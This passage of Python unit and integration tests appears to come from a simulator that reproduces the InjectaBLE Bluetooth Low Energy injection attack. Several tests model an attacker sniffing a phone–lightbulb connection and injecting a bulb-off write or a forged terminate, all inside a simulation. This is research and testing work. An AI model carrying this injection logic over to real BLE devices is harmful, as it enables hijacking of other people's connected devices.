                            injection_config=InjectionConfig(max_attempts=5))
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        # Move the attacker out of range *after* synchronisation.
        medium.topology.place("attacker", 5000.0, 5000.0)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=120_000_000)
        assert reports
        assert reports[0].outcome in (InjectionOutcome.MAX_ATTEMPTS,
                                      InjectionOutcome.CONNECTION_LOST)
        assert reports[0].attempts <= 5

    def test_injector_busy_rejected(self):
        sim, bulb, phone, attacker = build_attack_world(seed=19)
        attacker.release_radio()
        attacker.injector.start(attacker.connection, b"\x01\x00\x04\x00x",
                                LLID.DATA_START, None)
        with pytest.raises(InjectionError):
            attacker.injector.start(attacker.connection, b"\x01\x00\x04\x00y",
                                    LLID.DATA_START, None)

    def test_control_injection(self):
        from repro.ll.pdu.control import TerminateInd

        sim, bulb, phone, attacker = build_attack_world(seed=20)
        bulb.ll.readvertise_on_disconnect = False
        reasons = []
        phone.ll.on_disconnected = reasons.append
        reports = []
        attacker.inject_control(TerminateInd(), on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports[0].success
        assert not bulb.ll.is_connected      # Slave accepted the terminate
        # The Master never saw the terminate: if it dropped at all, it was
        # only through its own (much later) supervision timeout.
        assert all("supervision" in r for r in reasons)
