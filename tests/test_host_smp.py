"""Unit tests for the Security Manager pairing flow."""

import numpy as np
import pytest

from repro.errors import SecurityError
from repro.host.smp import (
    OP_PAIRING_FAILED,
    PairingFeatures,
    PairingState,
    SecurityManager,
)


def make_pair(tk_initiator=bytes(16), tk_responder=bytes(16)):
    """Two SecurityManagers wired directly to each other."""
    queues = {"i": [], "r": []}
    initiator = SecurityManager(
        send=queues["r"].append, is_initiator=True,
        local_addr=bytes.fromhex("060504030201"),
        peer_addr=bytes.fromhex("0c0b0a090807"),
        rng=np.random.default_rng(1), tk=tk_initiator,
    )
    responder = SecurityManager(
        send=queues["i"].append, is_initiator=False,
        local_addr=bytes.fromhex("0c0b0a090807"),
        peer_addr=bytes.fromhex("060504030201"),
        rng=np.random.default_rng(2), tk=tk_responder,
    )
    return initiator, responder, queues


def pump(initiator, responder, queues, rounds=10):
    for _ in range(rounds):
        moved = False
        while queues["r"]:
            responder.on_pdu(queues["r"].pop(0))
            moved = True
        while queues["i"]:
            initiator.on_pdu(queues["i"].pop(0))
            moved = True
        if not moved:
            break


class TestPairingFlow:
    def test_both_sides_complete(self):
        initiator, responder, queues = make_pair()
        initiator.start()
        pump(initiator, responder, queues)
        assert initiator.state is PairingState.DONE
        assert responder.state is PairingState.DONE

    def test_stks_match(self):
        initiator, responder, queues = make_pair()
        initiator.start()
        pump(initiator, responder, queues)
        assert initiator.stk is not None
        assert initiator.stk == responder.stk

    def test_on_complete_callbacks(self):
        initiator, responder, queues = make_pair()
        got = []
        initiator.on_complete = got.append
        responder.on_complete = got.append
        initiator.start()
        pump(initiator, responder, queues)
        assert len(got) == 2 and got[0] == got[1]

    def test_mismatched_tk_fails(self):
        initiator, responder, queues = make_pair(
            tk_responder=bytes(15) + b"\x01")
        initiator.start()
        pump(initiator, responder, queues)
        assert PairingState.FAILED in (initiator.state, responder.state)
        assert initiator.stk is None or responder.stk is None or \
            initiator.stk != responder.stk

    def test_responder_cannot_start(self):
        _, responder, _ = make_pair()
        with pytest.raises(SecurityError):
            responder.start()

    def test_failed_pdu_sets_state(self):
        initiator, _, _ = make_pair()
        initiator.on_pdu(bytes([OP_PAIRING_FAILED, 0x04]))
        assert initiator.state is PairingState.FAILED


class TestPairingFeatures:
    def test_round_trip(self):
        features = PairingFeatures(io_capability=0x03, max_key_size=16)
        raw = features.to_bytes(0x01)
        assert PairingFeatures.from_bytes(raw) == features

    def test_wire_length(self):
        assert len(PairingFeatures().to_bytes(0x01)) == 7

    def test_wrong_length_rejected(self):
        with pytest.raises(SecurityError):
            PairingFeatures.from_bytes(bytes(6))
