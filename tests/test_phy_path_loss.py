"""Unit tests for the propagation model."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.phy.path_loss import PathLossModel, Wall, dbm_to_mw, mw_to_dbm


class TestPowerConversions:
    def test_zero_dbm_is_one_mw(self):
        assert dbm_to_mw(0.0) == pytest.approx(1.0)

    def test_round_trip(self):
        assert mw_to_dbm(dbm_to_mw(-37.5)) == pytest.approx(-37.5)

    def test_ten_db_is_factor_ten(self):
        assert dbm_to_mw(10.0) == pytest.approx(10.0)

    def test_non_positive_power_rejected(self):
        with pytest.raises(ConfigurationError):
            mw_to_dbm(0.0)


class TestPathLossModel:
    def test_reference_loss_at_one_metre(self):
        model = PathLossModel(reference_loss_db=40.0, shadowing_sigma_db=0.0)
        assert model.mean_loss_db(1.0) == pytest.approx(40.0)

    def test_loss_grows_with_distance(self):
        model = PathLossModel(shadowing_sigma_db=0.0)
        losses = [model.mean_loss_db(d) for d in (1, 2, 4, 8, 16)]
        assert losses == sorted(losses)

    def test_exponent_slope(self):
        # n=2: +6.02 dB per doubling of distance.
        model = PathLossModel(exponent=2.0, shadowing_sigma_db=0.0)
        assert model.mean_loss_db(2.0) - model.mean_loss_db(1.0) == \
            pytest.approx(6.02, abs=0.01)

    def test_wall_adds_attenuation(self):
        model = PathLossModel(shadowing_sigma_db=0.0)
        free = model.mean_loss_db(3.0)
        walled = model.mean_loss_db(3.0, walls=(Wall(8.0),))
        assert walled == pytest.approx(free + 8.0)

    def test_multiple_walls_accumulate(self):
        model = PathLossModel(shadowing_sigma_db=0.0)
        walls = (Wall(6.0), Wall(10.0))
        assert model.mean_loss_db(1.0, walls=walls) == \
            pytest.approx(model.mean_loss_db(1.0) + 16.0)

    def test_distance_clamped_below_minimum(self):
        model = PathLossModel(shadowing_sigma_db=0.0, min_distance_m=0.1)
        assert model.mean_loss_db(0.0) == model.mean_loss_db(0.1)

    def test_shadowing_varies_samples(self):
        model = PathLossModel(shadowing_sigma_db=3.0)
        rng = np.random.default_rng(1)
        samples = {model.sample_loss_db(5.0, rng) for _ in range(10)}
        assert len(samples) > 1

    def test_shadowing_disabled_without_rng(self):
        model = PathLossModel(shadowing_sigma_db=3.0)
        assert model.sample_loss_db(5.0, None) == model.mean_loss_db(5.0)

    def test_received_power(self):
        model = PathLossModel(reference_loss_db=40.0, exponent=2.0,
                              shadowing_sigma_db=0.0)
        assert model.received_power_dbm(0.0, 1.0) == pytest.approx(-40.0)

    def test_invalid_exponent_rejected(self):
        with pytest.raises(ConfigurationError):
            PathLossModel(exponent=0.0)

    def test_negative_wall_rejected(self):
        with pytest.raises(ConfigurationError):
            Wall(-1.0)
