"""Failure-injection tests: degraded radio conditions and lossy paths.

The state machines must degrade the way real stacks do — retransmit,
widen, resynchronise, or time out — rather than desynchronise silently.
"""

import pytest

from repro.core.attacker import Attacker
from repro.devices import Lightbulb, Smartphone
from repro.phy.collision import CollisionModel
from repro.phy.path_loss import PathLossModel
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_world(seed=1, shadowing_sigma_db=2.0, distance=2.0, interval=36):
    sim = Simulator(seed=seed)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", distance, 0.0)
    topo.place("attacker", -2.0, 0.0)
    medium = Medium(sim, topo,
                    path_loss=PathLossModel(
                        shadowing_sigma_db=shadowing_sigma_db))
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=interval)
    return sim, medium, bulb, phone


class TestLossyLink:
    def test_connection_survives_heavy_shadowing(self):
        """Deep fades lose frames; ARQ and supervision must absorb them."""
        sim, medium, bulb, phone = build_world(seed=2,
                                               shadowing_sigma_db=12.0,
                                               distance=25.0)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=10_000_000)
        # Frames were genuinely lost...
        losses = (len(sim.trace.filter(kind="event-missed"))
                  + len(sim.trace.filter(kind="response-missed")))
        assert losses > 0
        # ...yet the connection persisted or re-established.
        assert phone.is_connected or bulb.ll.is_connected or \
            sim.trace.filter(kind="reconnect-attempt")

    def test_no_duplicate_data_delivery_under_loss(self):
        """Lost acks cause retransmissions; the 1-bit ARQ must dedupe."""
        sim, medium, bulb, phone = build_world(seed=3,
                                               shadowing_sigma_db=10.0,
                                               distance=20.0)
        received = []
        bulb.ll.on_data = received.append
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        if not phone.is_connected:
            pytest.skip("connection did not survive this fade pattern")
        for i in range(5):
            phone.ll.send_data(bytes([1, 0, 4, 0, i]))
        sim.run(until_us=20_000_000)
        # Payloads arrive at most once and in order (gaps allowed if the
        # link died mid-way).
        tags = [p[-1] for p in received]
        assert tags == sorted(set(tags))

    def test_extreme_range_never_connects(self):
        sim, medium, bulb, phone = build_world(seed=4, distance=5000.0)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=3_000_000)
        assert not phone.is_connected
        assert not bulb.ll.is_connected


class TestAttackerUnderLoss:
    def test_sniffer_survives_fades(self):
        sim, medium, bulb, phone = build_world(seed=5,
                                               shadowing_sigma_db=8.0)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=8_000_000)
        if not phone.is_connected:
            pytest.skip("victim link died under this fade pattern")
        assert attacker.synchronized
        # The sniffer missed events but recovered via widening prediction.
        assert attacker.connection.events_since_anchor <= 3

    def test_injection_report_counts_failed_attempts(self):
        """Under a hostile collision model every attempt fails; the report
        must say so honestly instead of claiming success."""
        from repro.core.injection import InjectionConfig, InjectionOutcome
        from repro.host.att.pdus import WriteReq
        from repro.host.l2cap import CID_ATT, l2cap_encode

        sim = Simulator(seed=6)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo,
                        collision=CollisionModel(capture_threshold_db=80.0,
                                                 phase_sigma_db=0.0))
        bulb = Lightbulb(sim, medium, "bulb")
        phone = Smartphone(sim, medium, "phone", interval=36)
        attacker = Attacker(sim, medium, "attacker",
                            injection_config=InjectionConfig(max_attempts=8))
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        reports = []
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports
        assert reports[0].outcome is InjectionOutcome.MAX_ATTEMPTS
        assert reports[0].attempts == 8
        assert bulb.is_on  # nothing actually got through
        # Victims unharmed: corrupted injections look like channel noise.
        assert phone.is_connected and bulb.ll.is_connected
