"""Integration tests: GATT over the full simulated stack."""

import pytest

from repro.devices import Lightbulb, Smartphone
from repro.host.att.pdus import ReadByTypeRsp
from repro.host.gatt.uuids import UUID_DEVICE_NAME
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


@pytest.fixture
def world():
    sim = Simulator(seed=77)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone")
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_000_000)
    assert phone.is_connected
    return sim, bulb, phone


class TestDiscovery:
    def test_services_discovered(self, world):
        sim, bulb, phone = world
        done = []
        phone.gatt.discover_services(lambda: done.append(True))
        sim.run(until_us=5_000_000)
        assert done
        uuids = {s.uuid for s in phone.gatt.services}
        assert 0x1800 in uuids and 0xFF10 in uuids

    def test_characteristics_discovered(self, world):
        sim, bulb, phone = world
        phone.gatt.discover_services()
        sim.run(until_us=5_000_000)
        char = phone.gatt.find_characteristic(0xFF11)
        assert char is not None
        assert char.value_handle == \
            bulb.gatt.find_characteristic(0xFF11).value_handle


class TestReadsAndWrites:
    def test_remote_write_triggers_device(self, world):
        sim, bulb, phone = world
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        acks = []
        phone.gatt.write(ctrl, Lightbulb.power_payload(False), acks.append)
        sim.run(until_us=3_000_000)
        assert acks == [True]
        assert not bulb.is_on

    def test_remote_read_returns_state(self, world):
        sim, bulb, phone = world
        state = bulb.gatt.find_characteristic(0xFF12).value_handle
        values = []
        phone.gatt.read(state, values.append)
        sim.run(until_us=3_000_000)
        assert values and values[0][0] == 1  # is_on

    def test_write_command_applies(self, world):
        sim, bulb, phone = world
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        phone.gatt.write_command(ctrl, Lightbulb.color_payload(1, 2, 3))
        sim.run(until_us=3_000_000)
        assert bulb.color == (1, 2, 3)

    def test_device_name_by_type(self, world):
        sim, bulb, phone = world
        names = []
        phone.host.att.read_by_type(UUID_DEVICE_NAME, names.append)
        sim.run(until_us=3_000_000)
        assert isinstance(names[0], ReadByTypeRsp)
        assert names[0].records[0][1] == b"bulb"


class TestPairingAndEncryption:
    def test_pair_then_encrypted_write(self, world):
        sim, bulb, phone = world
        paired = []
        phone.host.on_paired = paired.append
        phone.host.pair(encrypt=True)
        sim.run(until_us=4_000_000)
        assert paired
        assert phone.ll.encryption is not None
        assert bulb.ll.encryption is not None
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        acks = []
        phone.gatt.write(ctrl, Lightbulb.power_payload(False), acks.append)
        sim.run(until_us=6_000_000)
        assert acks == [True] and not bulb.is_on

    def test_pair_without_encrypting(self, world):
        sim, bulb, phone = world
        phone.host.pair(encrypt=False)
        sim.run(until_us=4_000_000)
        assert phone.ll.encryption is None
        # The STK is provisioned on the slave for later use.
        assert bulb.ll.ltk is not None
