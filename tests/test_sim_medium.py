"""Integration tests for the radio medium: delivery, locking, collisions."""

import pytest

from repro.phy.collision import CollisionModel
from repro.phy.path_loss import PathLossModel
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from repro.sim.transceiver import Transceiver


def build_world(seed=1, positions=None, **medium_kwargs):
    sim = Simulator(seed=seed)
    topo = Topology()
    for name, (x, y) in (positions or {
        "tx": (0.0, 0.0), "rx": (2.0, 0.0), "other": (1.0, 1.7),
    }).items():
        topo.place(name, x, y)
    medium = Medium(sim, topo, **medium_kwargs)
    radios = {name: Transceiver(sim, medium, name) for name in topo.positions}
    return sim, medium, radios


class TestDelivery:
    def test_listening_receiver_gets_frame(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append((f, rssi))
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"abc", 0, 7))
        sim.run()
        assert len(got) == 1
        frame, rssi = got[0]
        assert frame.pdu == b"abc" and not frame.corrupted
        assert rssi < 0  # some path loss happened

    def test_delivery_at_frame_end(self):
        sim, medium, radios = build_world()
        seen_at = []
        radios["rx"].on_frame = lambda f, rssi: seen_at.append(sim.now)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, bytes(14), 0, 7))
        sim.run()
        assert seen_at[0] == pytest.approx(10.0 + 176.0)

    def test_wrong_channel_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(8)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_not_listening_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_late_tuner_misses_frame(self):
        # A receiver that tunes in mid-frame cannot sync on the preamble.
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, bytes(20), 0, 7))
        sim.schedule_at(50.0, lambda: radios["rx"].listen(7))
        sim.run()
        assert got == []

    def test_out_of_range_receiver_misses(self):
        sim, medium, radios = build_world(
            positions={"tx": (0.0, 0.0), "rx": (4000.0, 0.0)},
            path_loss=PathLossModel(shadowing_sigma_db=0.0),
        )
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_sender_does_not_hear_itself(self):
        sim, medium, radios = build_world()
        got = []
        radios["tx"].on_frame = lambda f, rssi: got.append(f)
        radios["tx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []


class TestLocking:
    def test_receiver_locks_first_frame(self):
        """The first-frame lock is the mechanism InjectaBLE's race exploits."""
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(20), 0, 7))
        sim.schedule_at(60.0,
                        lambda: radios["other"].transmit(0x22222222, bytes(20), 0, 7))
        sim.run()
        # Only the first frame is delivered; the second was interference.
        assert len(got) == 1
        assert got[0].access_address == 0x11111111

    def test_equal_power_collision_often_corrupts(self):
        corrupted = 0
        for seed in range(30):
            sim, medium, radios = build_world(seed=seed)
            got = []
            radios["rx"].on_frame = lambda f, rssi: got.append(f)
            radios["rx"].listen(7)
            sim.schedule_at(10.0, lambda r=radios: r["tx"].transmit(
                0x11111111, bytes(20), 0, 7))
            sim.schedule_at(60.0, lambda r=radios: r["other"].transmit(
                0x22222222, bytes(20), 0, 7))
            sim.run()
            if got and got[0].corrupted:
                corrupted += 1
        assert 5 < corrupted < 30  # probabilistic capture, not all-or-nothing

    def test_receiver_free_after_frame_ends(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, b"a", 0, 7))
        sim.schedule_at(500.0,
                        lambda: radios["other"].transmit(0x22222222, b"b", 0, 7))
        sim.run()
        assert [f.access_address for f in got] == [0x11111111, 0x22222222]

    def test_abandoned_lock_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(30), 0, 7))
        sim.schedule_at(50.0, radios["rx"].stop_listening)
        sim.run()
        assert got == []

    def test_lock_end_query(self):
        sim, medium, radios = build_world()
        radios["rx"].listen(7)
        observed = []
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(30), 0, 7))
        sim.schedule_at(50.0,
                        lambda: observed.append(medium.lock_end_of(radios["rx"])))
        sim.run()
        assert observed[0] == pytest.approx(10.0 + (1 + 4 + 30 + 3) * 8.0)


class TestHalfDuplex:
    def test_transmitting_receiver_cannot_lock(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        # rx transmits its own long frame, overlapping tx's frame.
        sim.schedule_at(5.0,
                        lambda: radios["rx"].transmit(0x33333333, bytes(40), 0, 7))
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, b"x", 0, 7))
        sim.run()
        assert got == []


class TestPathCache:
    """The medium caches distance/walls per pair; mutations must invalidate."""

    def test_moving_a_device_invalidates_cached_paths(self):
        sim, medium, radios = build_world(
            path_loss=PathLossModel(shadowing_sigma_db=0.0))
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        # Move the receiver out of radio range between the two frames.
        sim.schedule_at(500.0, lambda: medium.topology.place("rx", 4000.0, 0.0))
        sim.schedule_at(600.0, lambda: radios["tx"].transmit(1 << 20, b"b", 0, 7))
        sim.run()
        assert [f.pdu for f in got] == [b"a"]

    def test_adding_a_wall_invalidates_cached_paths(self):
        sim, medium, radios = build_world(
            path_loss=PathLossModel(shadowing_sigma_db=0.0))
        rssi_seen = []
        radios["rx"].on_frame = lambda f, rssi: rssi_seen.append(rssi)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.schedule_at(500.0, lambda: medium.topology.add_wall(
            1.0, -10.0, 1.0, 10.0, attenuation_db=30.0))
        sim.schedule_at(600.0, lambda: radios["tx"].transmit(1 << 20, b"b", 0, 7))
        sim.run()
        assert len(rssi_seen) == 2
        assert rssi_seen[1] == pytest.approx(rssi_seen[0] - 30.0)


class TestTap:
    def test_tap_sees_every_frame(self):
        sim, medium, radios = build_world()
        seen = []
        medium.add_tap(lambda frame: seen.append(frame.access_address))
        sim.schedule_at(1.0, lambda: radios["tx"].transmit(0xAAAA0001, b"a", 0, 3))
        sim.schedule_at(500.0,
                        lambda: radios["other"].transmit(0xAAAA0002, b"b", 0, 9))
        sim.run()
        assert seen == [0xAAAA0001, 0xAAAA0002]
