"""Integration tests for the radio medium: delivery, locking, collisions."""

import numpy as np
import pytest

from repro.phy.collision import CollisionModel
from repro.phy.path_loss import PathLossModel
from repro.sim.medium import Medium, _LinkShadow
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from repro.sim.transceiver import Transceiver


def build_world(seed=1, positions=None, **medium_kwargs):
    sim = Simulator(seed=seed)
    topo = Topology()
    for name, (x, y) in (positions or {
        "tx": (0.0, 0.0), "rx": (2.0, 0.0), "other": (1.0, 1.7),
    }).items():
        topo.place(name, x, y)
    medium = Medium(sim, topo, **medium_kwargs)
    radios = {name: Transceiver(sim, medium, name) for name in topo.positions}
    return sim, medium, radios


class TestDelivery:
    def test_listening_receiver_gets_frame(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append((f, rssi))
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"abc", 0, 7))
        sim.run()
        assert len(got) == 1
        frame, rssi = got[0]
        assert frame.pdu == b"abc" and not frame.corrupted
        assert rssi < 0  # some path loss happened

    def test_delivery_at_frame_end(self):
        sim, medium, radios = build_world()
        seen_at = []
        radios["rx"].on_frame = lambda f, rssi: seen_at.append(sim.now)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, bytes(14), 0, 7))
        sim.run()
        assert seen_at[0] == pytest.approx(10.0 + 176.0)

    def test_wrong_channel_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(8)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_not_listening_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_late_tuner_misses_frame(self):
        # A receiver that tunes in mid-frame cannot sync on the preamble.
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, bytes(20), 0, 7))
        sim.schedule_at(50.0, lambda: radios["rx"].listen(7))
        sim.run()
        assert got == []

    def test_out_of_range_receiver_misses(self):
        sim, medium, radios = build_world(
            positions={"tx": (0.0, 0.0), "rx": (4000.0, 0.0)},
            path_loss=PathLossModel(shadowing_sigma_db=0.0),
        )
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []

    def test_sender_does_not_hear_itself(self):
        sim, medium, radios = build_world()
        got = []
        radios["tx"].on_frame = lambda f, rssi: got.append(f)
        radios["tx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"x", 0, 7))
        sim.run()
        assert got == []


class TestLocking:
    def test_receiver_locks_first_frame(self):
        """The first-frame lock is the mechanism InjectaBLE's race exploits."""
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(20), 0, 7))
        sim.schedule_at(60.0,
                        lambda: radios["other"].transmit(0x22222222, bytes(20), 0, 7))
        sim.run()
        # Only the first frame is delivered; the second was interference.
        assert len(got) == 1
        assert got[0].access_address == 0x11111111

    def test_equal_power_collision_often_corrupts(self):
        corrupted = 0
        for seed in range(30):
            sim, medium, radios = build_world(seed=seed)
            got = []
            radios["rx"].on_frame = lambda f, rssi: got.append(f)
            radios["rx"].listen(7)
            sim.schedule_at(10.0, lambda r=radios: r["tx"].transmit(
                0x11111111, bytes(20), 0, 7))
            sim.schedule_at(60.0, lambda r=radios: r["other"].transmit(
                0x22222222, bytes(20), 0, 7))
            sim.run()
            if got and got[0].corrupted:
                corrupted += 1
        assert 5 < corrupted < 30  # probabilistic capture, not all-or-nothing

    def test_receiver_free_after_frame_ends(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, b"a", 0, 7))
        sim.schedule_at(500.0,
                        lambda: radios["other"].transmit(0x22222222, b"b", 0, 7))
        sim.run()
        assert [f.access_address for f in got] == [0x11111111, 0x22222222]

    def test_abandoned_lock_not_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(30), 0, 7))
        sim.schedule_at(50.0, radios["rx"].stop_listening)
        sim.run()
        assert got == []

    def test_lock_end_query(self):
        sim, medium, radios = build_world()
        radios["rx"].listen(7)
        observed = []
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, bytes(30), 0, 7))
        sim.schedule_at(50.0,
                        lambda: observed.append(medium.lock_end_of(radios["rx"])))
        sim.run()
        assert observed[0] == pytest.approx(10.0 + (1 + 4 + 30 + 3) * 8.0)


class TestHalfDuplex:
    def test_transmitting_receiver_cannot_lock(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        # rx transmits its own long frame, overlapping tx's frame.
        sim.schedule_at(5.0,
                        lambda: radios["rx"].transmit(0x33333333, bytes(40), 0, 7))
        sim.schedule_at(10.0,
                        lambda: radios["tx"].transmit(0x11111111, b"x", 0, 7))
        sim.run()
        assert got == []


class TestPathCache:
    """The medium caches distance/walls per pair; mutations must invalidate."""

    def test_moving_a_device_invalidates_cached_paths(self):
        sim, medium, radios = build_world(
            path_loss=PathLossModel(shadowing_sigma_db=0.0))
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        # Move the receiver out of radio range between the two frames.
        sim.schedule_at(500.0, lambda: medium.topology.place("rx", 4000.0, 0.0))
        sim.schedule_at(600.0, lambda: radios["tx"].transmit(1 << 20, b"b", 0, 7))
        sim.run()
        assert [f.pdu for f in got] == [b"a"]

    def test_adding_a_wall_invalidates_cached_paths(self):
        sim, medium, radios = build_world(
            path_loss=PathLossModel(shadowing_sigma_db=0.0))
        rssi_seen = []
        radios["rx"].on_frame = lambda f, rssi: rssi_seen.append(rssi)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.schedule_at(500.0, lambda: medium.topology.add_wall(
            1.0, -10.0, 1.0, 10.0, attenuation_db=30.0))
        sim.schedule_at(600.0, lambda: radios["tx"].transmit(1 << 20, b"b", 0, 7))
        sim.run()
        assert len(rssi_seen) == 2
        assert rssi_seen[1] == pytest.approx(rssi_seen[0] - 30.0)


class TestInterestSets:
    """The indexed medium tracks listeners per channel via note_listen."""

    def test_retune_away_and_back_still_delivered(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        radios["rx"].listen(12)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.run()
        assert [f.pdu for f in got] == [b"a"]

    def test_stop_listening_removes_interest(self):
        sim, medium, radios = build_world()
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        radios["rx"].stop_listening()
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.run()
        assert got == []

    def test_broadcast_mode_still_delivers(self):
        sim, medium, radios = build_world(indexed=False)
        got = []
        radios["rx"].on_frame = lambda f, rssi: got.append(f)
        radios["rx"].listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.run()
        assert [f.pdu for f in got] == [b"a"]


def _crowded_world(**medium_kwargs):
    """30+ co-channel listeners, enough to engage the spatial grid."""
